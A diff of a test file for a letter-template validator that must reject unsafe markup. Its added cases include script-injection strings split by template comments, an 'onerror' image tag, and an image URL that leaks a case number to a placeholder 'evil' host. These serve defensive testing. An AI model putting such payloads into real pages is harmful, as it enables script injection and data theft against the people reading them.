@@ -3,6 +3,8 @@ line, and nothing in them can run without end or reach beyond what they are give
 
 from __future__ import annotations
 
+from html.parser import HTMLParser
+
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
@@ -13,6 +15,7 @@ from relief.letters.language import (
     TEMPLATE_CHARS_MAX,
     TEXT,
     Shape,
+    checked,
     faults_of,
     title_of,
     written,
@@ -90,13 +93,36 @@ def test_values_are_escaped_whatever_they_hold() -> None:
         ("{% for a in said %}{{ a.price }}{% endfor %}", 'no "a.price"; there is: title, value'),
         ("{% block other %}{% endblock %}", 'only block of a letter is "title"'),
         ("{% block title %}{{ case.number }}{% endblock %}", "title is plain words"),
-        ("<script>alert(1)</script>", '"<script" has no place'),
+        ("<script>alert(1)</script>", '"<script>" has no place'),
+        ("<scr{# #}ipt>x</scr{# #}ipt>", '"<script>" has no place'),
+        ('<scr{{ "ipt" }}>', "is no tag"),
+        ('<p s{# #}tyle="color: red">', "has no place"),
+        ("<im{# #}g on{# #}error=alert(1)>", "is no tag"),
+        ('<img s{# #}rc="http://evil/?{{ case.number }}">', "is no tag"),
+        ("<p class={{ case.matter }}>", "is no tag"),
+        ('<p class="{{ case.matter }}">', "is no tag"),
+        ("<p{% if bring %}>{% endif %}", "is no tag"),
+        ('<{% if bring %}p class="a{% endif %}">', "is no tag"),
+        ("{% for a in bring %}<scr{% else %}ipt>{% endfor %}", "is no tag"),
+        ('<p class="a" class="b">', "has no place"),
+        ('</p class="a">', "has no place"),
+        ('<td colspan="1000">', "has no place"),
+        ("<plaintext>", "has no place"),
+        ("<textarea>", "has no place"),
+        ("<!-- ", "is no tag"),
+        ("<!--> <p> -->", "is no tag"),
+        ("<!-- {{ case.number }} -->", "is no tag"),
+        ("<![CDATA[x]]>", "is no tag"),
+        ("<?xml ?>", "is no tag"),
+        ('<p/onclick="x">', "is no tag"),
+        ("1 < 2", "is no tag"),
+        ("{% block title %}a{% endblock %}{% block title %}b{% endblock %}", "said above already"),
         ("<ScRiPt >", "has no place"),
         ("<p onclick=\"x\">", "has no place"),
         ("<img src=\"http://somewhere/a.png\">", "has no place"),
         ("<a href=\"javascript:x\">", "has no place"),
         ("<style>p {}</style>", "has no place"),
-        ("<meta http-equiv=refresh>", "has no place"),
+        ("<meta http-equiv=refresh>", "is no tag"),
         ("<p style=\"color: red\">", "has no place"),
         ("a\u202eb", "cannot be seen"),
         ("{{ case.number", "cannot be read"),
@@ -138,8 +164,16 @@ def test_megabytes_are_refused_before_they_are_made() -> None:
         "{% if bring %}" * 3000 + "{% endif %}" * 3000,
         "{% if bring %}" * 120 + "{% endif %}" * 120,
         "{{ " + "not " * 8000 + "bring }}",
+        "{{ " + "9" * 5000 + " }}",
     ],
-    ids=["too long", "brackets", "thousands of questions", "a hundred questions", "not not not"],
+    ids=[
+        "too long",
+        "brackets",
+        "thousands of questions",
+        "a hundred questions",
+        "not not not",
+        "a number",
+    ],
 )
 def test_what_would_break_whoever_reads_it_is_told(source: str) -> None:
     assert len(told(source)) == 1
@@ -158,3 +192,52 @@ def test_letter_without_a_title_is_told() -> None:
 def test_whatever_is_written_is_told_or_made(source: str) -> None:
     if not faults_of(source, SHAPE, titled=False):
         assert isinstance(written(source, VALUES), str)
+
+
+class _Reader(HTMLParser):
+    """Reads as readers do, and says which tags and attributes there were."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.seen: set[str] = set()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.seen |= {tag, *(f"{name}=" for name, _value in attrs)}
+
+    def handle_decl(self, decl: str) -> None:
+        self.seen.add(decl)
+
+    unknown_decl = handle_decl
+    handle_pi = handle_decl
+
+
+PIECES = st.sampled_from([
+    "<", ">", "/", "scr", "ipt", "p", "img", " ", "class=", '"', "'", "a", "on", "click=", "=",
+    "{# #}", "{{ case.matter }}", "{{ 'b' }}", "{% if bring %}", "{% else %}", "{% endif %}",
+    "<!--", "-->", "-", "<p>", "</p>", '<p class="a">', "&", "lt;", "!", "?", "\n", "style",
+    "{% for a in bring %}", "{% endfor %}", "<p ", "</", "{{ case.matter | lines }}",
+])  # fmt: skip
+
+
+@given(st.lists(PIECES, max_size=16).map("".join))
+def test_whatever_is_taken_comes_out_as_the_markup_of_a_letter(source: str) -> None:
+    if faults_of(source, SHAPE, titled=False):
+        return
+    for values in (VALUES, {**VALUES, "bring": []}):
+        reader = _Reader()
+        reader.feed(checked(written(source, values)))
+        reader.close()
+        assert reader.seen <= {"p", "br", "class="}
+
+
+def test_page_that_is_no_letter_is_refused_once_more_when_it_is_made() -> None:
+    assert checked("<p>a</p>") == "<p>a</p>"
+    with pytest.raises(Invalid, match="has no place"):
+        checked("<p>a</p><script>")
+
+
+def test_what_cannot_be_compared_is_told() -> None:
+    source = "{% if 1 < case.number %}a{% endif %}"
+    assert told(source) == []
+    with pytest.raises(Invalid, match="cannot be compared"):
+        written(source, VALUES)
